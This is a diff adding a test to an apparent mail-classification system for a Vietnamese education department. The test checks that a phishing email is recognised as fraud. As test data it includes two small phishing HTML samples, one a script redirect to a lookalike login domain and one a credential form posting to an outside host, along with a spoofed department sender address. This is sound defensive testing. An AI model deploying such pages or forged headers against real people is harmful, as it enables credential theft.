@@ -2544,3 +2544,27 @@ def test_a_document_systems_task_reminder_is_no_report(shipped: Config) -> None:
     verdict = _classify(shipped, mail, [])
     assert not verdict.is_report and not verdict.needs_staff and verdict.automatic
     assert "nhắc việc" in verdict.reason
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        b"<html><body><script>location='http://tayninh-gov-vn.login-secure.top/baocao'</script>Dang nhap</body></html>",
+        b'<html><body><form action="http://x.top/a"><input name="u"><input type=password name="p"></form></body></html>',
+    ],
+)
+def test_a_phishing_page_attached_is_no_report(shipped: Config, page: bytes) -> None:
+    """Mail posing as the Department ("KHẨN: Cập nhật báo cáo NQ121") attached a web page that sends the
+    reader to a fake login ("BaoCao_NQ121.htm"): read as the report with nothing in it, it waited in review
+    as an unreadable report for staff to open."""
+    msg = EmailMessage()
+    msg["From"] = "So GD&DT Tay Ninh <sogddt.tayninh.gov.vn@outlook-mail-verify.com>"
+    msg["Subject"] = "KHẨN: Cập nhật báo cáo NQ121 trước 25/10"
+    msg["Message-ID"] = "<phish@outlook-mail-verify.com>"
+    msg.set_content("Để nộp báo cáo Nghị quyết 121, vui lòng đăng nhập hộp thư công vụ theo tệp đính kèm.")
+    msg.add_attachment(page, maintype="text", subtype="html", filename="BaoCao_NQ121.htm")
+    mail = message_mod.parse(msg.as_bytes(), fallback_id="x")
+    documents, failures = read_mail(mail, read_attachment)
+    verdict = classify(mail, documents, failures, shipped, RECEIVED)
+    assert not verdict.is_report and not verdict.needs_staff
+    assert "lừa đảo" in verdict.reason
